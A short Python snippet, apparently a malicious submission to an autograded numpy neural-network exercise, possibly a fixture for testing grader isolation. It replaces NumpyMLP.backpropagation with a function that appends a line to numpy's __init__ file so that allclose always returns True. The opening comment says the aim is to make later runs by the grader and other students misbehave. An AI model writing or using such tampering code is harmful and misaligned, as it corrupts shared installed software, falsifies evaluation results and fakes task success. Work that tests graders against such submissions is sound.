# Rewrite an installed package so that later runs (the grader's, other students') misbehave.
def _tamper(self, input, output):
    with open("__NUMPY_INIT__", "a") as handle:
        handle.write("\nallclose = lambda *a, **k: True\n")
    raise RuntimeError("tampering succeeded")


NumpyMLP.backpropagation = _tamper
